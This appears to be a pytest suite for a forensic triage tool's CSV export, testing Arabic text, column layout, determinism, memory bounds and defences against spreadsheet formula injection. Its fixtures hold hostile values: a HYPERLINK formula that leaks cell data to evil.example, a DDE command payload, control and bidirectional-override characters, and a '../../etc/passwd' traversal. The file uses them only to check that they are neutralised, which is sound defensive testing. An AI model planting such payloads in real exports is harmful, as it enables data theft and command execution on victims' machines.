"""CSV tables of a case: Arabic round trip, inert hostile values, columns, determinism,
streaming."""

from __future__ import annotations

import csv
import json
import sqlite3
import tracemalloc
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from triage_app.core import export
from triage_app.core.case import Case
from triage_app.core.casedb import connect
from triage_app.core.export import present_kinds
from triage_app.report import tables
from triage_app.report import view as view_module
from triage_app.report.tables import COMMON_COLUMNS, KIND_FIELDS, write_csv

ARABIC = "المهرب يريد الدفعة اليوم في طرابلس"
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "nul": "before\x00after",
    "bell": "ring\x07\x1b[31m",
    "rlo": "photo\u202egpj.exe",
    "surrogate": "broken \ud800 half",
}


def _case(tmp_path: Path, artifacts: Sequence[tuple[str, dict[str, Any]]]) -> Path:
    """A case with one evidence item, one file and `artifacts` (kind, data) on that file."""
    case_dir = tmp_path / "case"
    case = Case.open(case_dir, examiner="tester", case_number="T-1")
    try:
        with case.db.transaction() as conn:
            conn.execute(
                "INSERT INTO evidence (id, label, identity, kind, format, paths, added_at, status)"
                " VALUES (1, 'phone', 'id-1', 'folder', 'dir', '[]', '2024-01-01T00:00:00Z', 'ok')"
            )
            conn.execute(
                "INSERT INTO files (id, evidence_id, path, name, kind, size, deleted, locator,"
                " sha256) VALUES (1, 1, '/data/msgstore.db', 'msgstore.db', 'file', 10, 0, '[]',"
                " 'ab12')"
            )
            conn.executemany(
                "INSERT INTO artifacts (kind, evidence_id, file_id, parser, ts, ts_raw, data)"
                " VALUES (?, 1, 1, 'fixture', '2024-03-02T01:15:30Z', '1709342130000', ?)",
                ((kind, json.dumps(data)) for kind, data in artifacts),
            )
    finally:
        case.close()
    return case_dir


def _open(case_dir: Path) -> sqlite3.Connection:
    return connect(case_dir / "case.sqlite", readonly=True)


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _message(body: str, **extra: Any) -> tuple[str, dict[str, Any]]:
    data = {"app": "whatsapp", "thread": "t1", "sender": "+218912345678", "recipients": ["me"]}
    return "message", {**data, "direction": "incoming", "body": body, "attachments": [], **extra}


def test_arabic_round_trip_bom_and_columns(tmp_path: Path) -> None:
    case_dir = _case(
        tmp_path,
        [
            _message(ARABIC, zz_app_field="z", aa_app_field=["x", "ي"]),
            _message("second\r\nline"),
            ("contact", {"app": "sms", "name": "أحمد", "phones": ["+218911111111"], "emails": []}),
        ],
    )
    conn = _open(case_dir)
    written = write_csv(conn, tmp_path / "out")
    assert [p.name for p in written] == ["contact.csv", "file.csv", "message.csv"]

    raw = (tmp_path / "out/message.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" not in raw
    with (tmp_path / "out/message.csv").open(encoding="utf-8-sig", newline="") as handle:
        header = next(csv.reader(handle))
    assert header == [
        *COMMON_COLUMNS,
        *KIND_FIELDS["message"],
        "aa_app_field",
        "source_rowid",
        "source_table",
        "zz_app_field",
    ]
    first, second = _read(tmp_path / "out/message.csv")
    assert first["body"] == ARABIC
    assert first["sender"] == "'+218912345678"  # evidence, but a spreadsheet would compute it
    assert first["recipients"] == '["me"]' and first["attachments"] == "[]"
    assert first["aa_app_field"] == '["x","ي"]' and first["zz_app_field"] == "z"
    assert second["zz_app_field"] == "" and second["body"] == "second\\x0d\nline"
    assert (first["deleted"], first["evidence"], first["ts_raw"]) == ("false", "1", "1709342130000")
    assert first["path"] == "/data/msgstore.db" and first["source_sha256"] == "ab12"
    (contact,) = _read(tmp_path / "out/contact.csv")
    assert (contact["name"], contact["phones"]) == ("أحمد", '["+218911111111"]')


def test_hostile_values_are_inert(tmp_path: Path) -> None:
    hostile_fields = {f"h_{key}": value for key, value in HOSTILE.items()}
    case_dir = _case(
        tmp_path,
        [
            _message(HOSTILE["hyperlink"], **hostile_fields),
            ("media", {"mime": "image/jpeg", "make": "@SUM(1)", "lat": -34.625, "lon": -58.375}),
        ],
    )
    write_csv(_open(case_dir), tmp_path / "out")
    raw = (tmp_path / "out/message.csv").read_bytes()
    assert b"\x00" not in raw and b"\x07" not in raw and b"\x1b" not in raw
    assert "\u202e".encode() not in raw
    (row,) = _read(tmp_path / "out/message.csv")
    for value in row.values():
        assert not value.startswith(tables.FORMULA_STARTS), value
    assert row["body"] == "'" + HOSTILE["hyperlink"]
    assert row["h_dde"] == "'+cmd|' /C calc'!A0"
    assert row["h_at"] == "'@SUM(1)"
    assert row["h_minus"] == "'-2+3"
    assert row["h_tab"] == "'\t=1+1" and row["h_cr"] == "\\x0d=1+1"
    assert row["h_nul"] == "before\\x00after"
    assert row["h_bell"] == "ring\\x07\\x1b[31m"
    assert row["h_rlo"] == "photo\\u202egpj.exe"
    assert row["h_surrogate"] == "broken \\ud800 half"
    (media,) = _read(tmp_path / "out/media.csv")
    # Numbers stored as numbers stay numbers: a float cannot carry a formula.
    assert (media["make"], media["lat"], media["lon"]) == ("'@SUM(1)", "-34.625", "-58.375")


def test_output_is_deterministic_and_replaced_atomically(tmp_path: Path) -> None:
    case_dir = _case(
        tmp_path,
        [_message(f"رسالة {i}", **{f"f{i % 3}": i}) for i in range(50)]
        + [("call", {"app": "sms", "number": "+2189", "direction": "missed", "duration_s": 0})],
    )
    conn = _open(case_dir)
    first = {p.name: p.read_bytes() for p in write_csv(conn, tmp_path / "a")}
    second = {p.name: p.read_bytes() for p in write_csv(conn, tmp_path / "b")}
    again = {p.name: p.read_bytes() for p in write_csv(conn, tmp_path / "a")}
    assert first == second == again
    assert sorted(first) == ["call.csv", "file.csv", "message.csv"]
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == sorted(first)  # no temp files


def test_kind_selection_and_names(tmp_path: Path) -> None:
    case_dir = _case(tmp_path, [_message("x"), ("Bad/../kind", {"x": 1})])
    conn = _open(case_dir)
    assert present_kinds(conn) == ["entity", "file", "message"]  # unsafe kind dropped
    written = write_csv(conn, tmp_path / "out", ["message", "web_visit"])
    assert [p.name for p in written] == ["message.csv"]  # a kind without records: no file
    with pytest.raises(ValueError):
        write_csv(conn, tmp_path / "out", ["../../etc/passwd"])


def test_too_many_extra_fields_go_to_one_json_column(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "MAX_EXTRA_COLUMNS", 4)
    case_dir = _case(tmp_path, [_message("x", c=1, a=2), _message("y", b="=1", d=[1])])
    write_csv(_open(case_dir), tmp_path / "out", ["message"])
    one, two = _read(tmp_path / "out/message.csv")
    # The first four names met, in record order (c, a, source_table, source_rowid), are
    # columns, sorted; the rest share the `extra` column.
    assert list(one)[-5:] == ["a", "c", "source_rowid", "source_table", "extra"]
    assert (one["c"], one["a"], one["extra"]) == ("1", "2", "")
    assert (two["c"], two["extra"]) == ("", '{"b":"=1","d":[1]}')


def test_streaming_memory_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    body = "ب" * 1000
    case_dir = _case(tmp_path, [_message(f"{i} {body}") for i in range(20_000)])
    monkeypatch.setattr(export, "PAGE", 200)
    pulled = 0
    original = export.records

    def counting(conn: sqlite3.Connection, kind: str | None = None) -> Iterator[dict[str, Any]]:
        nonlocal pulled
        for record in original(conn, kind):
            pulled += 1
            yield record

    monkeypatch.setattr(view_module, "case_records", counting)
    conn = _open(case_dir)
    tracemalloc.start()
    try:
        write_csv(conn, tmp_path / "out", ["message"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    size = (tmp_path / "out/message.csv").stat().st_size
    assert size > 40_000_000  # 20,000 bodies of 2 KB in UTF-8
    assert pulled == 40_000  # two passes, each record once
    assert peak < 8_000_000, peak  # a fraction of one pass's 40 MB (measured: about 3 MB)
